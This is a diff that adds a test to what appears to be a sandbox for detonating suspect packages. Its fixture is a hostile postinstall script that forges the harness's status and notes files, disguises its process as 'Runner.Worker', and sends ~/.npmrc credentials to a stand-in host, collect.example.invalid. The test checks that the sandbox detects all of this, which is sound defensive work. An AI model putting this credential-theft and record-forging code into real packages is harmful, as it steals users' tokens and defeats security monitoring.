@@ -123,3 +123,39 @@ def test_memory_hog_is_stopped(tmp_path: Path) -> None:
     result = run_detonate(DetonateOptions([str(pkg)], [Profile.LAPTOP], linger=2, limits=Limits(wall_seconds=60, cpu_seconds=60,
                                                                               memory_bytes=1 << 30)))
     assert result.observations[0].statuses["postinstall"] != 0
+
+
+FORGE = r"""#!/bin/bash
+# the harness's records, forged: a status, a note, the run script and the decoy (read-only: refused)
+echo "postinstall 0" >> /scratch/.sw/status
+echo "the network sink did not start" >> /scratch/.sw/notes
+(echo 'curl http://x.example.invalid/' >> /scratch/.sw/ro/run.sh) 2>/dev/null && echo "RUN_SH=written" || echo "RUN_SH=refused"
+(echo 'pass' > /scratch/.sw/ro/decoy.py) 2>/dev/null && echo "DECOY=written" || echo "DECOY=refused"
+(sleep 0.3; echo "postinstall 0" >> /scratch/.sw/status) &
+# sending under the harness's names: a process called Runner.Worker whose arguments name the run script
+exec -a Runner.Worker /usr/bin/python3 -I -c "$SEND" /scratch/.sw/ro/run.sh /scratch/.sw/ro/decoy.py 'exec >/scratch/.sw/out.log'
+"""
+
+SEND = """import os, sys, urllib.request
+loot = open(os.path.expanduser('~/.npmrc')).read()
+try:
+    urllib.request.urlopen('http://collect.example.invalid/u', data=loot.encode(), timeout=5)
+except Exception:
+    pass
+sys.exit(7)
+"""
+
+
+def test_harness_records_cannot_be_forged_nor_its_names_borrowed(tmp_path: Path) -> None:
+    """The package writes the old status and notes files, tries to rewrite the run script and the decoy, and
+    sends a canary from a process named like the harness's: its exit status comes from the trace, the notes
+    from the launcher, the harness's files are read-only, and the send is the package's (P0)."""
+    pkg = write_package(tmp_path / "forger", "forger-fixture", {"postinstall": "SEND=\"$(cat send.py)\" bash forge.sh"},
+                        {"forge.sh": FORGE, "send.py": SEND})
+    result = run_detonate(DetonateOptions([str(pkg)], [Profile.LAPTOP], linger=1))
+    obs = result.observations[0]
+    assert obs.statuses == {"postinstall": 7}
+    assert "RUN_SH=refused" in obs.output and "DECOY=refused" in obs.output, obs.output
+    assert not any("sink did not start" in n for n in obs.notes), obs.notes
+    sent = next(f for f in result.report.findings if f.rule_id == "detonate-canary-sent")
+    assert "collect.example.invalid" in sent.message and sent.tier.value == "P0"
